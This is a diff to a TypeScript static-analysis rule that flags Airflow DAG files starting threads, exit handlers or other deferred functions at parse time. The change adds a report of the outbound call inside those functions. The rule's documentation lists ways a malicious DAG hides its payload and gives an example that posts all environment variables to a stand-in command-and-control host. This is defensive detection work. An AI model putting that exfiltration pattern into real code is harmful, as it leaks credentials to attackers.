@@ -1,3 +1,5 @@
+import type { SyntaxNode } from 'tree-sitter';
+import type { RuleContext } from '../../src/engine/context';
 import { callArgs, unwrap } from '../../src/engine/python';
 import { defineRule } from '../../src/engine/rule';
 import { factsOf } from './_facts';
@@ -38,10 +40,11 @@ export default defineRule({
     message: 'starts {what} running `{fn}` while the DAG file is parsed{reach}',
     messages: {
       local: '{how} `{fn}` while the DAG file is parsed, and its body {does} (`{via}`)',
+      inner: '`{via}` runs while the DAG file is parsed: it is in `{fn}`, which line {line} {how}',
     },
     docs: {
       what:
-        'Finds module-level code that makes a function run in the dag-processor outside the import itself: `threading.Thread(target=f).start()`, `threading.Timer`, `multiprocessing.Process`, `atexit.register(f)`, `signal.signal(sig, f)`, `sys.settrace`/`setprofile`/`addaudithook`; and executors or event loops given a local function that reaches the network or starts processes (`pool.submit(f)`, `loop.run_in_executor(None, f)`, `loop.call_later(5, f)`, `_thread.start_new_thread(f, ())`: *high*). *Medium*; *high* when the started function reaches the network or starts processes (a beacon or exfiltration that parse-time rules would miss because it sits in a function body). Also, *high*: a function of the file run at parse time by a plain module-level call (`_setup()`), as a decorator (`@deco`, `@deco(…)`), as a default value (`def f(x=_helper())`), or by a class statement (the metaclass\'s `__new__`/`__init__` for `class P(metaclass=Meta)`, a base class\'s `__init_subclass__`), whose body — or a local function it calls, three levels deep — reaches the network, starts a process or runs code. `@task`-decorated functions are not followed: calling them at parse time does not run their body. The body of a `@dag` function is parse-time code itself (Airflow runs it to build the DAG): what it does is reported where it does it, by DG601, DG602, DG604, DG605, DG607…, and the local functions it calls are followed from there.',
+        'Finds module-level code that makes a function run in the dag-processor outside the import itself: `threading.Thread(target=f).start()`, `threading.Timer`, `multiprocessing.Process`, `atexit.register(f)`, `signal.signal(sig, f)`, `sys.settrace`/`setprofile`/`addaudithook`; and executors or event loops given a local function that reaches the network or starts processes (`pool.submit(f)`, `loop.run_in_executor(None, f)`, `loop.call_later(5, f)`, `_thread.start_new_thread(f, ())`: *high*). *Medium*; *high* when the started function reaches the network or starts processes (a beacon or exfiltration that parse-time rules would miss because it sits in a function body). Also, *high*: a function of the file run at parse time by a plain module-level call (`_setup()`), as a decorator (`@deco`, `@deco(…)`), as a default value (`def f(x=_helper())`), or by a class statement (the metaclass\'s `__new__`/`__init__` for `class P(metaclass=Meta)`, a base class\'s `__init_subclass__`), whose body — or a local function it calls, three levels deep — reaches the network, starts a process or runs code. The outbound call itself (the `requests.post(…)` in the thread\'s target, the `subprocess.Popen(…)` in the helper called at module level) is reported too, *high*, naming what starts it: it is the line to remove, and the parse-time rules (DG601, DG607…) do not look into function bodies. `@task`-decorated functions are not followed: calling them at parse time does not run their body. The body of a `@dag` function is parse-time code itself (Airflow runs it to build the DAG): what it does is reported where it does it, by DG601, DG602, DG604, DG605, DG607…, and the local functions it calls are followed from there.',
       why:
         'Parse-time rules look at module-level code because function bodies do not run at import — unless the module starts them: a thread keeps running in the dag-processor after the import returns, an exit handler runs when the processor recycles, a signal handler or trace hook runs inside Airflow\'s own code. It is how a malicious DAG file defers its payload past a naive review.',
       example: '```python\nimport threading, requests, os\ndef _beacon():\n    requests.post("https://c2.example", data=dict(os.environ))\nthreading.Thread(target=_beacon, daemon=True).start()\n```',
@@ -54,6 +57,7 @@ export default defineRule({
       const k = l.reach.kinds;
       const does = k.has('network') ? 'reaches the network' : k.has('spawn') ? 'starts a process' : 'runs code';
       ctx.report(l.site, { how: l.how === 'decorator' ? 'runs the decorator' : l.how === 'class' ? `defining class \`${l.cls}\` runs` : 'calls', fn: l.name, does, via: l.reach.fn ?? l.reach.call.text.slice(0, 40) }, { message: 'local', severity: 'high', parseTime: false });
+      reportInner(ctx, l.reach.call, l.reach.fn, l.name, l.site, l.how === 'decorator' ? 'runs as a decorator' : l.how === 'class' ? 'runs by defining a class' : 'calls');
     }
   },
   onCall(call, fn, ctx) {
@@ -89,5 +93,17 @@ export default defineRule({
     // directly, or through the local functions it calls (`lambda *a: _beacon()`)
     const outbound = inside.some((f) => f.kinds.has('network') || f.kinds.has('spawn') || f.kinds.has('exec')) || reachOfTarget(ctx, t) !== null;
     ctx.report(call, { what: STARTERS.get(fn)!, fn: name, reach: outbound ? ', and that function reaches the network, starts processes or runs code' : '' }, { severity: outbound ? 'high' : 'medium' });
+    const first = inside.find((f) => f.kinds.has('network') || f.kinds.has('spawn') || f.kinds.has('exec')) ?? reachOfTarget(ctx, t);
+    if (first) reportInner(ctx, first.call, first.fn, name, call, `starts as ${STARTERS.get(fn)!}`);
   },
 });
+
+/**
+ * The outbound call itself (`requests.post(…)` in the thread's target), also reported: it is the line to remove, and
+ * parse-time rules (DG601, DG607…) do not see it in a function body. Once per call.
+ */
+function reportInner(ctx: RuleContext, call: SyntaxNode, fn: string | null, holder: string, site: SyntaxNode, how: string): void {
+  if (call.startIndex >= site.startIndex && call.endIndex <= site.endIndex) return; // the call is the start itself
+  if (!ctx.once(call)) return;
+  ctx.report(call, { via: fn ?? call.text.slice(0, 40), fn: holder, line: String(site.startPosition.row + 1), how }, { message: 'inner', severity: 'high', parseTime: false, key: `inner ${fn ?? ''} ${holder}` });
+}
